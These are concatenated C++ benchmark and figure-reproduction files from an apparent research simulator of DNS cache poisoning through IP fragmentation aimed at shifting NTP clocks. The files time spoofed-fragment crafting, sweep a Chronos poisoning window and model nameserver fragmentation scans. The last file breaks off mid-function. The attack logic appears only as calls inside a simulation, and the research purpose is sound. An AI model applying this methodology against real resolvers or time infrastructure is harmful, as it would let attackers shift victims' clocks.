      {dns::DnsName::from_string("ns2.ntp.org"), Ipv4Addr{198, 51, 100, 53}},
      {dns::DnsName::from_string("ns3.ntp.org"), Ipv4Addr{198, 51, 100, 53}},
  };
  std::vector<Ipv4Addr> servers;
  for (u32 i = 1; i <= 16; ++i) servers.push_back(Ipv4Addr{0x0A0A0000 + i});
  dns::PoolZone zone(dns::DnsName::from_string("pool.ntp.org"), servers, cfg);
  return zone.peek_response(dns::DnsQuestion{
      dns::DnsName::from_string("pool.ntp.org"), dns::RrType::kA});
}

void BM_DnsEncodeDecode(benchmark::State& state) {
  dns::DnsMessage msg = sample_pool_response();
  for (auto _ : state) {
    Bytes wire = dns::encode_dns(msg);
    benchmark::DoNotOptimize(dns::decode_dns(wire));
  }
}
BENCHMARK(BM_DnsEncodeDecode);

void BM_FragmentCrafting(benchmark::State& state) {
  Bytes wire = dns::encode_dns(sample_pool_response());
  attack::CraftConfig cc;
  cc.ns_addr = Ipv4Addr{198, 51, 100, 53};
  cc.resolver_addr = Ipv4Addr{10, 53, 0, 1};
  cc.mtu = 296;
  cc.malicious_addrs = {Ipv4Addr{6, 6, 6, 53}};
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        attack::craft_spoofed_second_fragment(wire, cc));
  }
}
BENCHMARK(BM_FragmentCrafting);

void BM_ReassemblyPoisonedPath(benchmark::State& state) {
  net::Ipv4Packet full;
  full.src = Ipv4Addr{198, 51, 100, 53};
  full.dst = Ipv4Addr{10, 53, 0, 1};
  full.id = 7;
  full.payload = random_bytes(600, 5);
  auto frags = net::fragment(full, 296);
  for (auto _ : state) {
    net::ReassemblyCache cache;
    (void)cache.insert(frags[1], sim::Time{});  // planted
    benchmark::DoNotOptimize(cache.insert(frags[0], sim::Time{}));
    benchmark::DoNotOptimize(cache.insert(frags[2], sim::Time{}));
  }
}
BENCHMARK(BM_ReassemblyPoisonedPath);

void BM_NtpPacketCodec(benchmark::State& state) {
  ntp::NtpPacket pkt;
  pkt.mode = ntp::Mode::kServer;
  pkt.stratum = 2;
  pkt.tx_time = ntp::kSimEpochNtpSeconds + 1.5;
  for (auto _ : state) {
    Bytes wire = ntp::encode_ntp(pkt);
    benchmark::DoNotOptimize(ntp::decode_ntp(wire));
  }
}
BENCHMARK(BM_NtpPacketCodec);

}  // namespace

BENCHMARK_MAIN();
