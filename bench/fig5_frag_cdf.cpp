// Fig. 5: cumulative distribution of minimum fragment sizes emitted by
// nameservers of popular domains that do not support DNSSEC, measured by
// the forged-ICMP + query methodology.
#include <cstdio>

#include "bench_util.h"
#include "measure/frag_scanner.h"

int main() {
  using namespace dnstime;
  bench::header(
      "Fig. 5 - CDF of minimum fragment sizes (non-DNSSEC domains)");

  measure::FragScanConfig cfg;
  cfg.domains = 8000;  // scaled from the paper's 877,071 nameservers
  auto result = measure::scan_domain_fragmentation(cfg);

  std::printf("  domains scanned: %zu (paper: 877,071)\n", result.domains);
  bench::row("fragmenting + unsigned (vulnerable)", "7.66%",
             bench::pct(result.vulnerable_fraction(), 2));
  std::printf("\n  CDF over the vulnerable domains' minimum fragment size:\n");
  const double sizes[] = {68, 292, 548, 1276, 1500};
  const char* paper[] = {"~0%", "7.05%", "83.2%", "", "100%"};
  std::printf("    %-10s %-10s %s\n", "size (B)", "paper", "measured");
  for (int i = 0; i < 5; ++i) {
    std::printf("    <=%-8.0f %-10s %.1f%%\n", sizes[i], paper[i],
                100.0 * result.fraction_fragmenting_leq(sizes[i]));
  }

  std::printf("\n  ASCII CDF (x: fraction of domains fragmenting to <= size):\n");
  for (double size : {100.0, 292.0, 400.0, 548.0, 800.0, 1276.0, 1500.0}) {
    double frac = result.fraction_fragmenting_leq(size);
    int bars = static_cast<int>(frac * 50);
    std::printf("    %6.0f |%-50.*s| %5.1f%%\n", size, bars,
                "##################################################",
                frac * 100);
  }
  std::printf(
      "\n  Shape: a large step at 548 bytes (most PMTUD stacks clamp there)\n"
      "  and a small shelf at 292 — enough for the glue-tail overwrite.\n");
  return 0;
}
