// FROZEN pre-refactor packet path (PR 5 baseline) — do not "improve".
//
// This is a faithful, self-contained copy of the Bytes-based packet path as
// it stood before the pooled-buffer refactor: vector-backed ByteWriter,
// copying IPv4/UDP codecs, per-fragment payload copies in fragment(), and a
// ReassemblyCache that stores payload copies and assembles via zero-fill +
// copy. bench_netstack_bench runs identical workloads through this and
// through the live net:: path so the speedup numbers in
// BENCH_netstack.json compare against what the code actually did, and the
// fragment/reassembly property test uses it as the behavioural oracle for
// the zero-copy path.
#pragma once

#include <algorithm>
#include <cstring>
#include <map>
#include <optional>
#include <span>
#include <stdexcept>
#include <vector>

#include "common/types.h"
#include "sim/time.h"

namespace dnstime::bench_legacy {

using Bytes = std::vector<u8>;

class LegacyDecodeError : public std::runtime_error {
 public:
  explicit LegacyDecodeError(const std::string& what)
      : std::runtime_error(what) {}
};

// --- checksum (pre word-at-a-time) -----------------------------------------

inline u16 ones_complement_sum(std::span<const u8> data) {
  u32 sum = 0;
  std::size_t i = 0;
  for (; i + 1 < data.size(); i += 2) {
    sum += (u32{data[i]} << 8) | u32{data[i + 1]};
  }
  if (i < data.size()) sum += u32{data[i]} << 8;
  while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
  return static_cast<u16>(sum);
}

inline u16 ones_complement_add(u16 a, u16 b) {
  u32 sum = u32{a} + u32{b};
  while (sum >> 16) sum = (sum & 0xFFFF) + (sum >> 16);
  return static_cast<u16>(sum);
}

inline u16 internet_checksum(std::span<const u8> data) {
  return static_cast<u16>(~ones_complement_sum(data));
}

inline u16 pseudo_header_sum(Ipv4Addr src, Ipv4Addr dst, u8 protocol,
                             u16 length) {
  u16 sum = 0;
  sum = ones_complement_add(sum, static_cast<u16>(src.value() >> 16));
  sum = ones_complement_add(sum, static_cast<u16>(src.value() & 0xFFFF));
  sum = ones_complement_add(sum, static_cast<u16>(dst.value() >> 16));
  sum = ones_complement_add(sum, static_cast<u16>(dst.value() & 0xFFFF));
  sum = ones_complement_add(sum, u16{protocol});
  sum = ones_complement_add(sum, length);
  return sum;
}

// --- vector-backed writer/reader -------------------------------------------

class ByteWriter {
 public:
  void write_u8(u8 v) { buf_.push_back(v); }
  void write_u16(u16 v) {
    buf_.push_back(static_cast<u8>(v >> 8));
    buf_.push_back(static_cast<u8>(v));
  }
  void write_u32(u32 v) {
    write_u16(static_cast<u16>(v >> 16));
    write_u16(static_cast<u16>(v));
  }
  void write_bytes(std::span<const u8> data) {
    buf_.insert(buf_.end(), data.begin(), data.end());
  }
  void patch_u16(std::size_t offset, u16 v) {
    buf_[offset] = static_cast<u8>(v >> 8);
    buf_[offset + 1] = static_cast<u8>(v);
  }
  [[nodiscard]] std::size_t size() const { return buf_.size(); }
  [[nodiscard]] Bytes take() && { return std::move(buf_); }
  [[nodiscard]] const Bytes& data() const { return buf_; }

 private:
  Bytes buf_;
};

class ByteReader {
 public:
  explicit ByteReader(std::span<const u8> data) : data_(data) {}
  [[nodiscard]] u8 read_u8() {
    require(1);
    return data_[pos_++];
  }
  [[nodiscard]] u16 read_u16() {
    require(2);
    u16 v = (u16{data_[pos_]} << 8) | u16{data_[pos_ + 1]};
    pos_ += 2;
    return v;
  }
  [[nodiscard]] u32 read_u32() {
    u32 hi = read_u16();
    return (hi << 16) | read_u16();
  }
  [[nodiscard]] Bytes read_bytes(std::size_t n) {
    require(n);
    Bytes out(data_.begin() + static_cast<std::ptrdiff_t>(pos_),
              data_.begin() + static_cast<std::ptrdiff_t>(pos_ + n));
    pos_ += n;
    return out;
  }
  void seek(std::size_t pos) {
    if (pos > data_.size()) throw LegacyDecodeError("seek out of range");
    pos_ = pos;
  }
  [[nodiscard]] std::size_t pos() const { return pos_; }

 private:
  void require(std::size_t n) const {
    if (pos_ + n > data_.size()) throw LegacyDecodeError("truncated input");
  }
  std::span<const u8> data_;
  std::size_t pos_ = 0;
};

// --- IPv4 -------------------------------------------------------------------

inline constexpr u8 kProtoUdp = 17;
inline constexpr std::size_t kIpv4HeaderSize = 20;

struct Ipv4Packet {
  Ipv4Addr src;
  Ipv4Addr dst;
  u16 id = 0;
  bool dont_fragment = false;
  bool more_fragments = false;
  u16 frag_offset_units = 0;
  u8 ttl = 64;
  u8 protocol = kProtoUdp;
  Bytes payload;

  [[nodiscard]] bool is_fragment() const {
    return more_fragments || frag_offset_units != 0;
  }
  [[nodiscard]] std::size_t frag_offset_bytes() const {
    return std::size_t{frag_offset_units} * 8;
  }
  [[nodiscard]] std::size_t total_length() const {
    return kIpv4HeaderSize + payload.size();
  }
};

inline Bytes encode(const Ipv4Packet& pkt) {
  ByteWriter w;
  w.write_u8(0x45);
  w.write_u8(0);
  w.write_u16(static_cast<u16>(pkt.total_length()));
  w.write_u16(pkt.id);
  u16 flags_frag = pkt.frag_offset_units & 0x1FFF;
  if (pkt.dont_fragment) flags_frag |= 0x4000;
  if (pkt.more_fragments) flags_frag |= 0x2000;
  w.write_u16(flags_frag);
  w.write_u8(pkt.ttl);
  w.write_u8(pkt.protocol);
  w.write_u16(0);
  w.write_u32(pkt.src.value());
  w.write_u32(pkt.dst.value());
  u16 csum = internet_checksum(std::span(w.data()).subspan(0, kIpv4HeaderSize));
  w.patch_u16(10, csum);
  w.write_bytes(pkt.payload);
  return std::move(w).take();
}

inline Ipv4Packet decode_ipv4(std::span<const u8> data) {
  ByteReader r(data);
  u8 ver_ihl = r.read_u8();
  if ((ver_ihl >> 4) != 4) throw LegacyDecodeError("not IPv4");
  std::size_t header_len = std::size_t{static_cast<u8>(ver_ihl & 0x0F)} * 4;
  if (header_len < kIpv4HeaderSize) throw LegacyDecodeError("bad IHL");
  if (data.size() < header_len) throw LegacyDecodeError("truncated header");
  if (internet_checksum(data.subspan(0, header_len)) != 0) {
    throw LegacyDecodeError("bad IPv4 header checksum");
  }
  (void)r.read_u8();
  u16 total_len = r.read_u16();
  if (total_len < header_len || total_len > data.size()) {
    throw LegacyDecodeError("bad total length");
  }
  Ipv4Packet pkt;
  pkt.id = r.read_u16();
  u16 flags_frag = r.read_u16();
  pkt.dont_fragment = (flags_frag & 0x4000) != 0;
  pkt.more_fragments = (flags_frag & 0x2000) != 0;
  pkt.frag_offset_units = flags_frag & 0x1FFF;
  pkt.ttl = r.read_u8();
  pkt.protocol = r.read_u8();
  (void)r.read_u16();
  pkt.src = Ipv4Addr{r.read_u32()};
  pkt.dst = Ipv4Addr{r.read_u32()};
  r.seek(header_len);
  pkt.payload = r.read_bytes(total_len - header_len);
  return pkt;
}

// --- UDP --------------------------------------------------------------------

inline constexpr std::size_t kUdpHeaderSize = 8;

struct UdpDatagram {
  u16 src_port = 0;
  u16 dst_port = 0;
  Bytes payload;
};

inline Bytes encode_udp_with_checksum(const UdpDatagram& dgram, u16 csum) {
  ByteWriter w;
  w.write_u16(dgram.src_port);
  w.write_u16(dgram.dst_port);
  w.write_u16(static_cast<u16>(kUdpHeaderSize + dgram.payload.size()));
  w.write_u16(csum);
  w.write_bytes(dgram.payload);
  return std::move(w).take();
}

inline u16 udp_checksum(const UdpDatagram& dgram, Ipv4Addr src, Ipv4Addr dst) {
  auto length = static_cast<u16>(kUdpHeaderSize + dgram.payload.size());
  Bytes wire = encode_udp_with_checksum(dgram, 0);
  u16 sum = pseudo_header_sum(src, dst, kProtoUdp, length);
  sum = ones_complement_add(sum, ones_complement_sum(wire));
  u16 csum = static_cast<u16>(~sum);
  return csum == 0 ? 0xFFFF : csum;
}

inline Bytes encode_udp(const UdpDatagram& dgram, Ipv4Addr src, Ipv4Addr dst) {
  return encode_udp_with_checksum(dgram, udp_checksum(dgram, src, dst));
}

inline UdpDatagram decode_udp(std::span<const u8> data, Ipv4Addr src,
                              Ipv4Addr dst) {
  ByteReader r(data);
  UdpDatagram d;
  d.src_port = r.read_u16();
  d.dst_port = r.read_u16();
  u16 length = r.read_u16();
  if (length < kUdpHeaderSize || length > data.size()) {
    throw LegacyDecodeError("bad UDP length");
  }
  u16 wire_csum = r.read_u16();
  d.payload = r.read_bytes(length - kUdpHeaderSize);
  if (wire_csum != 0) {
    u16 sum = pseudo_header_sum(src, dst, kProtoUdp, length);
    sum = ones_complement_add(sum, ones_complement_sum(data.subspan(0, length)));
    if (static_cast<u16>(~sum) != 0) throw LegacyDecodeError("bad UDP checksum");
  }
  return d;
}

// --- fragmentation ----------------------------------------------------------

[[nodiscard]] constexpr std::size_t fragment_payload_capacity(u16 mtu) {
  if (mtu <= kIpv4HeaderSize) return 0;
  return (static_cast<std::size_t>(mtu) - kIpv4HeaderSize) / 8 * 8;
}

inline std::vector<Ipv4Packet> fragment(const Ipv4Packet& full, u16 mtu) {
  if (full.is_fragment()) throw LegacyDecodeError("refusing to re-fragment");
  if (full.total_length() <= mtu) return {full};
  if (full.dont_fragment) {
    throw LegacyDecodeError("DF set but packet exceeds MTU");
  }
  std::size_t chunk = fragment_payload_capacity(mtu);
  if (chunk == 0) throw LegacyDecodeError("MTU too small to fragment");

  std::vector<Ipv4Packet> frags;
  std::size_t offset = 0;
  while (offset < full.payload.size()) {
    std::size_t take = std::min(chunk, full.payload.size() - offset);
    Ipv4Packet f;
    f.src = full.src;
    f.dst = full.dst;
    f.id = full.id;
    f.ttl = full.ttl;
    f.protocol = full.protocol;
    f.frag_offset_units = static_cast<u16>(offset / 8);
    f.payload.assign(full.payload.begin() + static_cast<std::ptrdiff_t>(offset),
                     full.payload.begin() +
                         static_cast<std::ptrdiff_t>(offset + take));
    offset += take;
    f.more_fragments = offset < full.payload.size();
    frags.push_back(std::move(f));
  }
  return frags;
}

// --- reassembly -------------------------------------------------------------

struct ReassemblyPolicy {
  sim::Duration timeout = sim::Duration::seconds(30);
  std::size_t max_datagrams_per_pair = 64;
};

class ReassemblyCache {
 public:
  explicit ReassemblyCache(ReassemblyPolicy policy = {}) : policy_(policy) {}

  std::optional<Ipv4Packet> insert(const Ipv4Packet& frag, sim::Time now) {
    Key key{frag.src, frag.dst, frag.protocol, frag.id};
    auto it = entries_.find(key);
    if (it == entries_.end()) {
      if (count_pair(key) >= policy_.max_datagrams_per_pair) {
        return std::nullopt;
      }
      Entry fresh;
      fresh.first_seen = now;
      it = entries_.emplace(key, std::move(fresh)).first;
      pair_counts_[PairKey{key.src, key.dst, key.proto}]++;
    }
    Entry& entry = it->second;
    if (!entry.parts.contains(frag.frag_offset_units)) {
      entry.parts.emplace(frag.frag_offset_units, frag.payload);
      if (!frag.more_fragments) {
        entry.have_last = true;
        entry.total_payload = frag.frag_offset_bytes() + frag.payload.size();
      }
    }
    auto done = try_complete(key, entry);
    if (done) erase_entry(it);
    return done;
  }

  void expire(sim::Time now) {
    for (auto it = entries_.begin(); it != entries_.end();) {
      if (now - it->second.first_seen >= policy_.timeout) {
        it = erase_entry(it);
      } else {
        ++it;
      }
    }
  }

 private:
  struct Key {
    Ipv4Addr src, dst;
    u8 proto;
    u16 id;
    friend auto operator<=>(const Key&, const Key&) = default;
  };
  struct Entry {
    sim::Time first_seen;
    std::map<u16, Bytes> parts;
    bool have_last = false;
    std::size_t total_payload = 0;
  };
  struct PairKey {
    Ipv4Addr src, dst;
    u8 proto;
    friend auto operator<=>(const PairKey&, const PairKey&) = default;
  };

  std::optional<Ipv4Packet> try_complete(const Key& key, Entry& entry) {
    if (!entry.have_last) return std::nullopt;
    std::size_t covered = 0;
    for (const auto& [offset_units, part] : entry.parts) {
      std::size_t start = std::size_t{offset_units} * 8;
      if (start > covered) return std::nullopt;
      covered = std::max(covered, start + part.size());
    }
    if (covered < entry.total_payload) return std::nullopt;

    Ipv4Packet full;
    full.src = key.src;
    full.dst = key.dst;
    full.protocol = key.proto;
    full.id = key.id;
    full.payload.assign(entry.total_payload, 0);
    for (const auto& [offset_units, part] : entry.parts) {
      std::size_t start = std::size_t{offset_units} * 8;
      // NOTE: the pre-refactor code underflowed `total - start` when a part
      // began past the datagram end and wrote out of bounds; the frozen
      // copy guards (skips) so the bench/oracle cannot corrupt memory. In-
      // range behaviour is unchanged.
      if (start >= entry.total_payload) break;
      std::size_t n = std::min(part.size(), entry.total_payload - start);
      std::copy_n(part.begin(), n,
                  full.payload.begin() + static_cast<std::ptrdiff_t>(start));
    }
    return full;
  }

  std::size_t count_pair(const Key& key) const {
    auto it = pair_counts_.find(PairKey{key.src, key.dst, key.proto});
    return it == pair_counts_.end() ? 0 : it->second;
  }

  std::map<Key, Entry>::iterator erase_entry(
      std::map<Key, Entry>::iterator it) {
    auto cit = pair_counts_.find(
        PairKey{it->first.src, it->first.dst, it->first.proto});
    if (cit != pair_counts_.end() && --cit->second == 0) {
      pair_counts_.erase(cit);
    }
    return entries_.erase(it);
  }

  ReassemblyPolicy policy_;
  std::map<Key, Entry> entries_;
  std::map<PairKey, std::size_t> pair_counts_;
};

}  // namespace dnstime::bench_legacy
