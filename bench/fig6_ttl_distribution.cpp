// Fig. 6: TTL values of cached NTP pool records observed in open
// resolvers — uniform over [0, 150), confirming the RD=0 probing results
// are genuine cache hits.
#include <cstdio>

#include "bench_util.h"
#include "measure/cache_probe.h"

int main() {
  using namespace dnstime;
  bench::header("Fig. 6 - TTLs of cached pool A records in open resolvers");

  measure::CacheProbeConfig cfg;
  cfg.resolvers = 6000;
  auto result = measure::probe_open_resolvers(cfg);

  std::printf("  TTL histogram over %zu cached answers (expect ~uniform\n",
              result.ttl_histogram.total());
  std::printf("  on [0,150): pool A records age uniformly in cache):\n\n");
  std::printf("%s", result.ttl_histogram.render(44).c_str());

  // Uniformity check: coefficient of variation across the in-range bins.
  double mean = 0;
  std::size_t bins_in_range = 0;
  for (std::size_t b = 0; b < result.ttl_histogram.bins(); ++b) {
    if (result.ttl_histogram.bin_hi(b) <= 150.0) {
      mean += static_cast<double>(result.ttl_histogram.count(b));
      bins_in_range++;
    }
  }
  mean /= static_cast<double>(bins_in_range);
  double var = 0;
  for (std::size_t b = 0; b < result.ttl_histogram.bins(); ++b) {
    if (result.ttl_histogram.bin_hi(b) <= 150.0) {
      double d = static_cast<double>(result.ttl_histogram.count(b)) - mean;
      var += d * d;
    }
  }
  var /= static_cast<double>(bins_in_range);
  std::printf("\n  uniformity: stddev/mean over [0,150) bins = %.2f "
              "(uniform => small)\n",
              mean > 0 ? std::sqrt(var) / mean : 0.0);
  return 0;
}
