// §VI-C: the Chronos poisoning window. Sweep the number of honest hourly
// queries N completed before the poisoning lands; the attack must succeed
// for N <= 11 and fail for N >= 12 (2/3 * (89 + 4N) <= 89).
// Closed form plus full end-to-end runs at the boundary.
#include <cstdio>

#include "attack/chronos_attack.h"
#include "bench_util.h"
#include "chronos/chronos_client.h"
#include "scenario/world.h"

namespace {

using namespace dnstime;
using scenario::World;
using scenario::WorldConfig;
using sim::Duration;

double end_to_end_offset(int honest_rounds) {
  WorldConfig wc;
  wc.pool_size = 96;
  wc.attacker_ntp_count = 89;
  wc.rate_limit_fraction = 0.0;
  World world(wc);
  auto& host = world.add_host(Ipv4Addr{10, 77, 0, 2});
  ntp::ClientBaseConfig cfg;
  cfg.resolver = world.resolver_addr();
  chronos::ChronosClient client(*host.stack, host.clock, cfg);
  client.start();
  world.run_for(Duration::hours(honest_rounds - 1) + Duration::minutes(30));
  attack::ChronosAttack attack(
      world.attacker(),
      attack::ChronosAttackConfig{.resolver_addr = world.resolver_addr(),
                                  .malicious_ntp = world.attacker_ntp_addrs()});
  attack.inject_whitebox(world.resolver());
  world.run_for(Duration::hours(27 - honest_rounds));
  return host.clock.offset();
}

}  // namespace

int main() {
  bench::header(
      "Sec. VI-C - Chronos poisoning window (89 records, TTL > 24h)");

  std::printf("  Closed form: attacker wins iff N <= %d (paper: N <= 11)\n\n",
              attack::ChronosAttack::max_tolerable_honest_rounds(89));
  std::printf("  %3s | %9s | %12s | %s\n", "N", "pool mix",
              "atk fraction", "attacker wins (closed form)");
  for (int n = 0; n <= 23; ++n) {
    double frac = 89.0 / (89.0 + 4.0 * n);
    std::printf("  %3d | 89 + %3d | %10.1f%% | %s\n", n, 4 * n, frac * 100,
                attack::ChronosAttack::attacker_wins(n) ? "yes" : "no");
  }

  std::printf("\n  End-to-end boundary validation (full simulation):\n");
  for (int n : {5, 11, 12}) {
    double offset = end_to_end_offset(n);
    std::printf("    N=%2d: victim clock offset %+8.1f s  (%s)\n", n, offset,
                offset < -400 ? "SHIFTED -- attack succeeded"
                              : "held -- Chronos refused the update");
  }
  std::printf(
      "\n  'The chances of a successful attack against Chronos are actually\n"
      "  higher than against a traditional NTP client during boot-time,\n"
      "  since the attacker effectively has 12 tries in 24 hours.'\n");
  return 0;
}
