// §VII-B: fragmentation support of the pool.ntp.org nameservers — the
// direct scan of the zone's 30 nameservers.
#include <cstdio>

#include "bench_util.h"
#include "measure/frag_scanner.h"

int main() {
  using namespace dnstime;
  bench::header("Sec. VII-B - pool.ntp.org nameserver fragmentation scan");

  auto result = measure::scan_pool_nameservers();
  bench::row("nameservers scanned", "30",
             std::to_string(result.nameservers));
  bench::row("fragment below 548 bytes on ICMP", "16 of 30",
             std::to_string(result.fragment_below_548) + " of " +
                 std::to_string(result.nameservers));
  bench::row("DNSSEC for pool.ntp.org", "0 of 30",
             std::to_string(result.dnssec) + " of " +
                 std::to_string(result.nameservers));
  std::printf(
      "\n  Consequence: roughly half the pool nameservers can be made to\n"
      "  fragment, and nothing in the zone is signed — the §III attack\n"
      "  preconditions hold against the real NTP pool infrastructure.\n");
  return 0;
}
