// Event-loop hot-path microbenchmark: the refactored sim::EventLoop
// (flat 4-ary heap, slot+generation handles, SmallFn callbacks, move-out
// pop) versus the frozen pre-refactor implementation in
// legacy_event_loop.h, on the three workload shapes the simulator actually
// produces:
//
//   timer_churn     self-rescheduling periodic timers (NTP poll loops,
//                   reassembly-cache sweeps);
//   packet_burst    one-shot events each carrying a packet payload
//                   (Network::send -> deliver), the single hottest pattern
//                   in a fragment-spray campaign;
//   cancel_heavy    schedule + cancel churn (DNS query timeouts that are
//                   cancelled by the response in the common case).
//
// Results go to stdout and to a JSON file (default BENCH_eventloop.json)
// that CI uploads, so the events/sec trajectory is tracked per commit.
#include <algorithm>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <utility>
#include <vector>

#include "bench_util.h"
#include "common/bytes.h"
#include "legacy_event_loop.h"
#include "obs/provenance.h"
#include "sim/event_loop.h"

namespace dnstime::bench {
namespace {

using sim::Duration;
using sim::Time;

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                       start)
      .count();
}

/// N timers, each rescheduling itself until the shared fire budget is
/// spent. Exercises schedule->pop->reschedule steady state: heap churn at
/// mixed timestamps with zero cancellations. Shaped like the NTP clients:
/// an object whose tick schedules `[this] { tick(); }`.
template <class Loop>
struct Timer {
  Loop& loop;
  u64& fired;
  u64 total_fires;
  Duration period;
  void tick() {
    if (++fired >= total_fires) return;
    loop.schedule_after(period, [this] { tick(); });
  }
};

template <class Loop>
u64 timer_churn(u64 total_fires) {
  Loop loop;
  constexpr int kTimers = 64;
  u64 fired = 0;
  std::vector<Timer<Loop>> timers;
  timers.reserve(kTimers);
  for (int i = 0; i < kTimers; ++i) {
    // Each timer has its own period so timestamps interleave.
    timers.push_back(Timer<Loop>{loop, fired, total_fires,
                                 Duration::millis(10 + i)});
    loop.schedule_after(timers.back().period,
                        [t = &timers.back()] { t->tick(); });
  }
  loop.run_all();
  return fired;
}

/// One-shot events each carrying a packet-sized payload to a delivery
/// callback — the Network::send shape. The payload is moved into the
/// event; the pre-refactor loop pays a std::function heap allocation plus
/// a payload copy on the copy-out pop.
template <class Loop>
u64 packet_burst(u64 total_packets, std::size_t payload_size) {
  Loop loop;
  u64 delivered = 0;
  constexpr u64 kBatch = 4096;  // bounded queue depth, like a live sim
  for (u64 sent = 0; sent < total_packets;) {
    u64 n = std::min(kBatch, total_packets - sent);
    for (u64 i = 0; i < n; ++i) {
      Bytes payload(payload_size, static_cast<u8>(i));
      loop.schedule_after(Duration::micros(static_cast<i64>(i % 97)),
                          [p = std::move(payload), &delivered] {
                            delivered += p.empty() ? 0 : 1;
                          });
    }
    sent += n;
    loop.run_all();
  }
  return delivered;
}

/// Schedule a timeout per "query", cancel most of them (the response
/// arrived), fire the rest — the DNS resolver timeout shape.
template <class Loop>
u64 cancel_heavy(u64 total_events) {
  Loop loop;
  u64 fired = 0;
  constexpr u64 kBatch = 2048;
  for (u64 done = 0; done < total_events;) {
    u64 n = std::min(kBatch, total_events - done);
    std::vector<decltype(loop.schedule_after(Duration{}, [] {}))> handles;
    handles.reserve(n);
    for (u64 i = 0; i < n; ++i) {
      handles.push_back(loop.schedule_after(Duration::millis(5),
                                            [&fired] { fired++; }));
    }
    for (u64 i = 0; i < n; ++i) {
      if (i % 8 != 0) handles[i].cancel();  // 7 of 8 queries get answers
    }
    loop.run_all();
    done += n;
  }
  return fired;
}

struct WorkloadResult {
  std::string name;
  u64 events = 0;
  double legacy_s = 0.0;
  double new_s = 0.0;
  [[nodiscard]] double legacy_eps() const {
    return static_cast<double>(events) / legacy_s;
  }
  [[nodiscard]] double new_eps() const {
    return static_cast<double>(events) / new_s;
  }
  [[nodiscard]] double speedup() const { return legacy_s / new_s; }
};

/// Min-of-N wall time: rerun the workload `repeat` times and keep the
/// fastest run.  A single run carries scheduler jitter far larger than
/// the 2% instrumentation budget the overhead gate enforces; the minimum
/// is the standard noise-robust estimator for a deterministic workload.
template <class Fn>
double timed(int repeat, Fn&& fn) {
  double best = 0.0;
  for (int i = 0; i < repeat; ++i) {
    auto start = std::chrono::steady_clock::now();
    fn();
    double s = seconds_since(start);
    if (i == 0 || s < best) best = s;
  }
  return best;
}

/// Min-of-N with the flight recorder toggled per repeat: each iteration
/// times the workload back to back with the recorder uninstalled and
/// installed, alternating which half goes first (ABBA), so both
/// measurements see the same machine conditions and neither side
/// systematically lands on the hotter or cooler slot.  Cross-process
/// comparisons drown a 2% budget in scheduler noise; this paired
/// in-process form is what the flight-recorder overhead gate uses.
template <class Fn>
std::pair<double, double> timed_toggled(int repeat,
                                        obs::FlightRecorder* recorder,
                                        Fn&& fn) {
  double best_off = 0.0;
  double best_on = 0.0;
  for (int i = 0; i < repeat; ++i) {
    const bool on_first = (i % 2) != 0;
    for (int half = 0; half < 2; ++half) {
      const bool with_recorder = (half == 0) == on_first;
      double s;
      if (with_recorder) {
        obs::ScopedFlightRecorder install(recorder);
        auto start = std::chrono::steady_clock::now();
        fn();
        s = seconds_since(start);
      } else {
        auto start = std::chrono::steady_clock::now();
        fn();
        s = seconds_since(start);
      }
      double& best = with_recorder ? best_on : best_off;
      if (i == 0 || s < best) best = s;
    }
  }
  return {best_off, best_on};
}

}  // namespace
}  // namespace dnstime::bench

int main(int argc, char** argv) {
  using namespace dnstime;
  using namespace dnstime::bench;

  u64 scale = 2'000'000;
  int repeat = 3;
  std::string out_path = "BENCH_eventloop.json";
  std::string baseline_out;
  bool flight_on = false;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--scale") == 0 && i + 1 < argc) {
      scale = std::strtoull(argv[++i], nullptr, 10);
    } else if (std::strcmp(argv[i], "--repeat") == 0 && i + 1 < argc) {
      repeat = std::atoi(argv[++i]);
      if (repeat < 1) repeat = 1;
    } else if (std::strcmp(argv[i], "--out") == 0 && i + 1 < argc) {
      out_path = argv[++i];
    } else if (std::strcmp(argv[i], "--baseline-out") == 0 && i + 1 < argc) {
      baseline_out = argv[++i];
    } else if (std::strcmp(argv[i], "--flight-recorder") == 0) {
      flight_on = true;
    } else {
      std::fprintf(stderr,
                   "usage: %s [--scale N] [--repeat N] [--out FILE] "
                   "[--flight-recorder [--baseline-out FILE]]\n",
                   argv[0]);
      return 2;
    }
  }
  if (!baseline_out.empty() && !flight_on) {
    std::fprintf(stderr, "--baseline-out requires --flight-recorder\n");
    return 2;
  }

  // The event loop has no provenance sites; running under the recorder
  // anyway measures the honest cost of carrying it (the per-site
  // thread_local check is the only overhead a non-packet path pays).
  // With --flight-recorder each repeat times the refactored loop back to
  // back with the recorder off and on, and --baseline-out writes the
  // recorder-off numbers as a matched baseline for the overhead gate.
  obs::FlightRecorder flight;
  if (flight_on) flight.set_meta("bench/eventloop", 0x5eed, 0, 0x5eed);

  header(flight_on ? "event-loop hot path: refactored vs pre-refactor loop "
                     "(flight recorder ON)"
                   : "event-loop hot path: refactored vs pre-refactor loop");

  std::vector<WorkloadResult> results;
  std::vector<double> baseline_new_s;  // recorder-off new-loop seconds
  const auto measure_new = [&](auto&& fn) {
    if (!flight_on) return timed(repeat, fn);
    auto [off, on] = timed_toggled(repeat, &flight, fn);
    baseline_new_s.push_back(off);
    return on;
  };
  {
    WorkloadResult r{.name = "timer_churn", .events = scale};
    r.legacy_s = timed(
        repeat, [&] { timer_churn<bench_legacy::LegacyEventLoop>(scale); });
    r.new_s = measure_new([&] { timer_churn<sim::EventLoop>(scale); });
    results.push_back(r);
  }
  {
    WorkloadResult r{.name = "packet_burst", .events = scale};
    r.legacy_s = timed(repeat, [&] {
      packet_burst<bench_legacy::LegacyEventLoop>(scale, 90);
    });
    r.new_s = measure_new([&] { packet_burst<sim::EventLoop>(scale, 90); });
    results.push_back(r);
  }
  {
    WorkloadResult r{.name = "cancel_heavy", .events = scale};
    r.legacy_s = timed(
        repeat, [&] { cancel_heavy<bench_legacy::LegacyEventLoop>(scale); });
    r.new_s = measure_new([&] { cancel_heavy<sim::EventLoop>(scale); });
    results.push_back(r);
  }

  std::printf("  %-14s %12s %14s %14s %9s\n", "workload", "events",
              "legacy ev/s", "new ev/s", "speedup");
  std::printf("  ");
  for (int i = 0; i < 66; ++i) std::printf("-");
  std::printf("\n");
  double speedup_product = 1.0;
  for (const WorkloadResult& r : results) {
